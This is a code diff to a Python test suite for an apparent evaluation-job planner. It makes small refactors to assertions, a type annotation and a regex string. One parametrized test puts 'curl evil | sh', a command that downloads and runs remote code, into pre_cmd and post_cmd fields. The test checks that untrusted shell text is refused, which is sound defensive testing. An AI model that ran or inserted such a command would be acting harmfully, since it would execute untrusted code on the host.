@@ -48,7 +48,7 @@ class Recorder:
 
 
 def spec(*tasks: TaskSpec, **fields: Any) -> RunSpec:
-    given = {
+    given: dict[str, Any] = {
         "source": "run.yaml",
         "tasks": tasks,
         "endpoint": EndpointSpec(url="http://h/v1/completions", model_id="m"),
@@ -86,11 +86,7 @@ def test_a_job_carries_all_that_its_executor_needs() -> None:
     (job,), (plan,) = planned(spec(task(env={"HF_TOKEN": TOKEN})), (Attempt(number=1, attempt=4, mark="mark"),))
     assert (job.id, job.name, job.mark) == ("a1b2c3d4.1", "ey-a1b2c3d4-1-4", "mark")
     assert job.directory == "/nowhere/run/mine"
-    assert (job.endpoint.url, job.endpoint.type, job.endpoint.model_id) == (
-        "http://h/v1/completions",
-        "completions",
-        "m",
-    )
+    assert job.endpoint == EndpointSpec(url="http://h/v1/completions", type="completions", model_id="m")
     assert (job.harness.name, job.harness.script) == ("command", "run it")
     assert {file.path: (file.text, file.mode) for file in job.files if not file.secrets}["config.yaml"] == (
         "the: whole\n",
@@ -171,7 +167,7 @@ def test_a_need_that_several_plans_share_is_one_with_the_files_of_all() -> None:
 @pytest.mark.parametrize("text", ["pre_cmd", "post_cmd"])
 def test_shell_text_of_a_configuration_runs_only_when_it_is_trusted(text: str) -> None:
     tasks = [task("plain"), task("gated", **{text: "curl evil | sh"})]
-    with pytest.raises(ConfigError, match="^gated: pre_cmd and post_cmd run shell text") as caught:
+    with pytest.raises(ConfigError, match=r"^gated: pre_cmd and post_cmd run shell text") as caught:
         check_trust(tasks, trusted=False)
     assert "--trust-pre-cmd" in (caught.value.hint or "")
     check_trust(tasks, trusted=True)
